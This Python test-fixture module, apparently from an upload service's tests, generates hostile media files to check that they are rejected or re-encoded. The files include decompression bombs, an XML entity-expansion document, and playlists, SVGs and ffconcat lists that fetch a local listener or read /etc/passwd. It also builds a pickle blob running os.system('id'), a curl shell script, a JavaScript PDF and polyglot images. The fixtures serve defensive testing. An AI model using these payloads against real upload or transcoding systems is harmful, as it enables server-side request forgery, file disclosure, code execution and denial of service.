"""Files that mean harm, or are none, each made when it is needed: name → (content, announced type)."""

import io
import os
import struct
import zipfile
import zlib

import pillow_heif
from PIL import Image

from tests.accounts.pictures import chunk, encoded, png, profile, quarters
from tests.posts.processing import MARK, film, made, moving, sound

#: Where a listener of the tests waits for whoever should not come. The port is put in its place when it is known.
SPY = b"http://127.0.0.1:@PORT/spy"


def bomb(width, height, depth=1):
    """A PNG that keeps its promise: a few bytes that become very many."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width * depth // 8)
    rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def packed_texts(kind=b"zTXt", before=b"k\0\0"):
    packed = zlib.compress(b"a" * (64 * 1024 * 1024), 9)
    return png(8, 8, (b"\0" + b"\1" * 24) * 8, extra=chunk(kind, before + packed) * 8)


def many_frames(amount):
    """A GIF of so many pictures, of 23 bytes each."""
    frame = b"!\xf9\x04\0\1\0\0\0" + b",\0\0\0\0\1\0\1\0\0" + b"\2\2D\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * amount + b";"


def sized(content, width, height):
    """A picture of the HEIF family that claims to be of another size."""
    at = content.index(b"ispe")
    while at >= 0:
        content = content[: at + 8] + struct.pack(">II", width, height) + content[at + 16 :]
        at = content.find(b"ispe", at + 4)
    return content


def heic(**options):
    target = io.BytesIO()
    pillow_heif.from_pillow(quarters()).save(target, quality=60, **options)
    return target.getvalue()


def exif():
    found = Image.Exif()
    found[0x010F] = found[0x9286] = MARK.decode()
    return found.tobytes()


def segment(marker, data):
    """A JPEG with a further segment behind its beginning."""
    content = encoded(quarters(), "JPEG")
    return content[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data + content[2:]


def xmp():
    return segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + MARK + b"</x:xmpmeta>")


def iptc():
    caption = b"\x1c\x02\x78" + struct.pack(">H", len(MARK)) + MARK
    return segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(caption)) + caption + b"\0")


def box(kind, content=b""):
    return struct.pack(">I", 8 + len(content)) + kind + content


FTYP = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
CONTAINERS = (b"moov", b"trak", b"mdia", b"minf", b"dinf")


def with_reference(kind, data):
    """A film whose pictures lie elsewhere: its table of references names a file or an address."""

    def rebuilt(content):
        out, at = b"", 0
        while at < len(content):
            length, name = struct.unpack(">I4s", content[at : at + 8])
            inner = content[at + 8 : at + length]
            if name in CONTAINERS:
                inner = rebuilt(inner)
            elif name == b"dref":
                inner = struct.pack(">II", 0, 1) + box(kind, b"\0\0\0\0" + data)
            elif name == b"mdat":
                inner = bytes(len(inner))
            out, at = out + box(name, inner), at + length
        return out

    return rebuilt(film(ending="mov", size="64x64", sound=False))


def patched(name, at, value):
    """A film with other bytes behind the name of one of its boxes."""
    content = film(size="64x64", sound=False)
    place = content.index(name) + 4 + at
    return content[:place] + value + content[place + len(value) :]


def nested(depth):
    content = b""
    for _ in range(depth):
        content = box(b"moov", box(b"trak", content))
    return FTYP + content


def cut(content, share):
    return content[: int(len(content) * share)]


def wav(channels=1, rate=8_000, bits=16, size=None, data=b"\0\1" * 800, form=1):
    size = len(data) if size is None else size
    fmt = struct.pack("<IHHIIHH", 16, form, channels, rate & 0xFFFFFFFF, 16_000, 2, bits)
    return b"RIFF\xff\xff\xff\xffWAVEfmt " + fmt + b"data" + struct.pack("<I", size) + data


def playlist(target):
    return b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n" + target + b"\n#EXT-X-ENDLIST\n"


def avi_with_playlist():
    """A real AVI, whose captions are a playlist: it was read by players of the past."""
    content = made("-f", "lavfi", "-i", "testsrc2=s=64x64:d=0.2", "-c:v", "mpeg4", ending="avi")
    return content.replace(
        b"movi", b"movi" + b"01sb" + struct.pack("<I", 200) + (b"GAB2\0\2\0" + playlist(SPY)).ljust(200, b"\0")
    )


def archive():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as packed:
        packed.writestr("index.html", MARK)
    return target.getvalue()


def ebml(name, content):
    return name + b"\x08" + (len(content)).to_bytes(7, "big") + content


def matroska(doctype, *arguments):
    return made("-f", "lavfi", "-i", "testsrc2=s=64x64:d=0.3", "-c:v", "libvpx", *arguments, ending=doctype)


def attached():
    """A WebM by its own word, that carries a further file."""
    content = matroska("webm")
    carried = ebml(
        b"\x61\xa7", ebml(b"\x46\x6e", b"/etc/passwd") + ebml(b"\x46\x60", b"text/html") + ebml(b"\x46\x5c", MARK)
    )
    return content + ebml(b"\x19\x41\xa4\x69", carried)


JPEG, PNG, WEBP, AVIF, HEIC, GIF = (f"image/{name}" for name in ("jpeg", "png", "webp", "avif", "heic", "gif"))
MP4, MOV, WEBM = (f"video/{name}" for name in ("mp4", "quicktime", "webm"))
MP3, WAV, FLAC, OGG = (f"audio/{name}" for name in ("mpeg", "wav", "flac", "ogg"))

XML = b'<?xml version="1.0"?>\n'
PDF_WITH_SCRIPT = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
ENDLESS_BOX = struct.pack(">I4sQ", 1, b"moov", 2**63 - 1) + b"\0" * 64


def huge_jpeg():
    return encoded(quarters(), "JPEG").replace(struct.pack(">HH", 400, 600), b"\xff" * 4, 1)


def profiled(content):
    return encoded(quarters(), "JPEG", icc_profile=content)


def with_text():
    return png(8, 8, (b"\0" + b"\1" * 24) * 8, extra=chunk(b"tEXt", b"Comment\0" + MARK))


#: Told by the first bytes.
AT_ONCE = {
    "SVG": lambda: (b'<svg xmlns="http://www.w3.org/2000/svg"><image href="' + SPY + b'"/></svg>', PNG),
    "SVG with a script behind a declaration": lambda: (
        b'<?xml version="1.0"?>\n<svg onload="x()">' + MARK + b"</svg>",
        PNG,
    ),
    "XML that grows": lambda: (b'<!DOCTYPE a [<!ENTITY b "' + b"c" * 99 + b'">]><a>' + b"&b;" * 999 + b"</a>", JPEG),
    "page": lambda: (b"<!doctype html>" + MARK, GIF),
    "BMP": lambda: (encoded(quarters(), "BMP"), PNG),
    "TIFF": lambda: (encoded(quarters(), "TIFF"), JPEG),
    "ICO": lambda: (encoded(quarters(64, 64), "ICO"), PNG),
    "JPEG 2000": lambda: (encoded(quarters(), "JPEG2000"), JPEG),
    "PostScript": lambda: (b"%!PS-Adobe-3.0 EPSF-3.0\n(" + SPY + b") run\n", PNG),
    "ImageMagick script": lambda: (b"push graphic-context\nfill 'url(" + SPY + b")'", PNG),
    "PDF with a script, as a post": lambda: (
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "application/pdf",
    ),
    "nothing": lambda: (b"", PNG),
    "one byte": lambda: (b"\xff", JPEG),
    "playlist with an address": lambda: (playlist(SPY), MP4),
    "playlist with a local file": lambda: (playlist(b"file:///etc/passwd"), MP4),
    "playlist within an AVI": lambda: (avi_with_playlist(), MP4),
    "list of files to join": lambda: (b"ffconcat version 1.0\nfile '/etc/passwd'\nfile '" + SPY + b"'\n", MP4),
    "DASH manifest": lambda: (b'<?xml version="1.0"?><MPD><BaseURL>' + SPY + b"</BaseURL></MPD>", MP4),
    "session description": lambda: (b"v=0\nc=IN IP4 127.0.0.1\nm=video @PORT RTP/AVP 96\n", MP4),
    "ASX playlist": lambda: (b'<asx><entry><ref href="' + SPY + b'"/></entry></asx>', MP4),
    "Matroska": lambda: (matroska("mkv"), WEBM),
    "Flash video": lambda: (made("-f", "lavfi", "-i", "testsrc2=s=64x64:d=0.2", ending="flv"), MP4),
    "transport stream": lambda: (made("-f", "lavfi", "-i", "testsrc2=s=64x64:d=0.2", ending="ts"), MP4),
    "Windows Media": lambda: (bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + b"\0" * 500, MP4),
    "raw pictures": lambda: (b"YUV4MPEG2 W64 H64 F25:1\nFRAME\n" + b"\x80" * 6_144, MP4),
    "subtitles with a script": lambda: (b"[Script Info]\n[V4+ Styles]\n[Fonts]\nfontname: /etc/passwd\n", MP4),
    "subtitles that name a file": lambda: (b"1\n00:00:00,000 --> 00:00:01,000\n<img src='" + SPY + b"'>\n", MP4),
    "3GP": lambda: (box(b"ftyp", b"3gp4\0\0\0\x003gp4") + box(b"moov"), MP4),
    "MP3 of noise": lambda: (b"\xff\xfb\x90\0" + os.urandom(4_000), MP3),
    "program": lambda: (b"\x7fELF" + os.urandom(300), MP4),
    "program of another system": lambda: (b"MZ" + os.urandom(300), JPEG),
    "archive": lambda: (archive(), PNG),
    "archive with the head of nothing": lambda: (b"\x1f\x8b\x08\0" + os.urandom(99), PNG),
    "name of a device": lambda: (b"/dev/zero", MP4),
    "shell script": lambda: (b"#!/bin/sh\ncurl " + SPY + b"\n", MP4),
    "stored objects": lambda: (b"\x80\4cos\nsystem\n(S'id'\ntR.", PNG),
    "database": lambda: (b"SQLite format 3\0" + b"\0" * 200, PNG),
}

#: Nothing can be made of these, which only shows when somebody tries.
REFUSED = {
    "PNG of 900 megapixels": lambda: (bomb(30_000, 30_000), PNG),
    "PNG with a side of 100,000 pixels": lambda: (bomb(100_000, 8), PNG),
    "PNG one pixel wide and 60,000 high": lambda: (bomb(8, 60_000), PNG),
    "PNG that promises four thousand million pixels": lambda: (png(0xFFFF, 0xFFFF), PNG),
    "PNG whose texts unpack to half a gibibyte": lambda: (packed_texts(), PNG),
    "PNG of no pixels": lambda: (png(0, 0), PNG),
    "PNG cut off": lambda: (encoded(quarters())[:-600], PNG),
    "PNG of a head only": lambda: (encoded(quarters())[:33], PNG),
    "PNG with a wrong checksum": lambda: (encoded(quarters()).replace(b"IDAT", b"IDAT\1", 1), PNG),
    "PNG with fewer rows than it says": lambda: (png(3_000, 3_000, b"\0" * 100), PNG),
    "JPEG cut off": lambda: (encoded(quarters(), "JPEG")[:-800], JPEG),
    "JPEG of a head only": lambda: (encoded(quarters(), "JPEG")[:20], JPEG),
    "JPEG that claims 65,535 squared": lambda: (
        encoded(quarters(), "JPEG").replace(struct.pack(">HH", 400, 600), b"\xff" * 4, 1),
        JPEG,
    ),
    "GIF that claims 65,535 squared": lambda: (b"GIF89a" + b"\xff" * 4 + b"\0" * 60, GIF),
    "GIF of a million pictures": lambda: (many_frames(1_000_000), GIF),
    "GIF of as many pictures as its bytes allow": lambda: (many_frames(900_000), GIF),
    "GIF cut off": lambda: (encoded(quarters(), "GIF")[:60], GIF),
    "GIF that is a script": lambda: (b"GIF89a/*" + b"\1\0" * 4 + b"*/=1;" + MARK, GIF),
    "WebP canvas of 16,777,216 squared": lambda: (b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0" + b"\0" * 4 + b"\xff" * 6, WEBP),
    "WebP cut off": lambda: (encoded(quarters(), "WEBP")[:-100], WEBP),
    "AVIF that claims 60,000 squared": lambda: (sized(encoded(quarters(), "AVIF"), 60_000, 60_000), AVIF),
    "AVIF cut off": lambda: (encoded(quarters(), "AVIF")[:-100], AVIF),
    "HEIC that claims 60,000 squared": lambda: (sized(heic(), 60_000, 60_000), HEIC),
    "HEIC cut off": lambda: (heic()[:-100], HEIC),
    "playlist behind the head of a film": lambda: (FTYP + playlist(SPY), MP4),
    "film whose pictures are at an address": lambda: (with_reference(b"url ", SPY + b"\0"), MOV),
    "film whose pictures are in a local file": lambda: (with_reference(b"url ", b"file:///etc/passwd\0"), MOV),
    "film of which a box claims to be endless": lambda: (
        FTYP + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1) + b"\0" * 64,
        MP4,
    ),
    "film with a box of no length": lambda: (FTYP + b"\0\0\0\0moov" + b"\0\0\0\0trak" * 99, MP4),
    "film of boxes in boxes": lambda: (nested(3_000), MP4),
    "film of a head only": lambda: (FTYP, MP4),
    "film without its table": lambda: (cut(film(size="64x64"), 0.6), MP4),
    "film of a quarter": lambda: (cut(film("-movflags", "+faststart", seconds=8, rate=25), 0.25), MP4),
    "film of a half": lambda: (cut(film("-movflags", "+faststart", seconds=8, rate=25), 0.5), MP4),
    "film with a thousand million pictures": lambda: (patched(b"stsz", 4, struct.pack(">II", 1, 0x3FFFFFFF)), MP4),
    "film whose pictures stand for years": lambda: (patched(b"stts", 12, b"\x7f\xff\xff\xff"), MP4),
    "film of noise": lambda: (FTYP + box(b"mdat", os.urandom(9_000)) + box(b"moov", os.urandom(9_000)), MP4),
    "WebM of a head only": lambda: (matroska("webm")[:60], WEBM),
    "WebM cut off before its pictures": lambda: (cut(matroska("webm"), 0.1), WEBM),
    "WAV without sound": lambda: (wav(data=b""), WAV),
    "WAV of 65,535 channels": lambda: (wav(channels=65_535), WAV),
    "WAV of a rate of four thousand million": lambda: (wav(rate=-1), WAV),
    "WAV of a format that is none": lambda: (wav(form=0xABCD), WAV),
    "MP3 that is all head": lambda: (b"ID3\4\0\0\x7f\x7f\x7f\x7f" + b"\0" * 2_000, MP3),
    "FLAC of a head only": lambda: (b"fLaC\0\0\0\x22" + b"\xff" * 34, FLAC),
    "Ogg of a head only": lambda: (b"OggS\0\2" + b"\0" * 20, OGG),
}

#: Odd, or hiding something: made anew, so that nothing of what was hidden in it comes along.
MADE_ANEW = {
    "JPEG with a page in its comment": lambda: (encoded(quarters(), "JPEG", comment=MARK * 100), JPEG),
    "JPEG with a page behind its end": lambda: (encoded(quarters(), "JPEG") + b"<html>" + MARK, JPEG),
    "JPEG that is an archive too": lambda: (encoded(quarters(), "JPEG") + archive() + MARK, JPEG),
    "JPEG with a payload in EXIF": lambda: (encoded(quarters(), "JPEG", exif=exif()), JPEG),
    "JPEG with a payload in XMP": lambda: (xmp(), JPEG),
    "JPEG with a payload in IPTC": lambda: (iptc(), JPEG),
    "JPEG with a payload in its profile": lambda: (profiled(profile() + MARK * 99), JPEG),
    "PNG with a script behind its end": lambda: (encoded(quarters()) + b"/*" + MARK, PNG),
    "PNG with a script in a text": lambda: (with_text(), PNG),
    "PNG with a profile that is none": lambda: (encoded(quarters(), icc_profile=b"no profile" * 99 + MARK), PNG),
    "PNG that moves": lambda: (moving(30, kind="PNG") + MARK, PNG),
    "GIF that is a script too": lambda: (encoded(quarters(), "GIF") + b"*/=1;" + MARK, GIF),
    "GIF that moves, with a comment": lambda: (moving(9, comment=MARK) + MARK, GIF),
    "WebP with payloads": lambda: (encoded(quarters(), "WEBP", exif=exif(), xmp=MARK), WEBP),
    "WebP that moves": lambda: (moving(30, kind="WEBP"), WEBP),
    "AVIF with payloads": lambda: (encoded(quarters(), "AVIF", exif=exif(), xmp=MARK), AVIF),
    "HEIC with payloads": lambda: (heic(exif=exif()), HEIC),
    "one pixel": lambda: (encoded(Image.new("RGB", (1, 1), "red")), PNG),
    "thread of a picture": lambda: (encoded(Image.new("RGB", (1, 16_383), "red")), PNG),
    "CMYK": lambda: (encoded(quarters().convert("CMYK"), "JPEG", comment=MARK), JPEG),
    "film with a page behind its end": lambda: (film(size="64x64") + b"<html>" + MARK, MP4),
    "film with texts": lambda: (film("-metadata", f"comment={MARK.decode()}", size="64x64"), MP4),
    "film with a box of its own": lambda: (film(size="64x64") + box(b"uuid", os.urandom(16) + MARK), MP4),
    "film two pixels wide": lambda: (film(size="2x600", sound=False), MP4),
    "WebM that carries a file": lambda: (attached(), WEBM),
    "WAV that claims four gibibytes": lambda: (wav(size=0xFFFFFFFF, data=b"\0\1" * 8_000), WAV),
    "song with a page in its texts": lambda: (sound("-metadata", f"title={MARK.decode()}"), MP3),
    "sound with a page in its texts": lambda: (sound("-metadata", f"comment={MARK.decode()}", ending="ogg"), OGG),
}  # fmt: skip
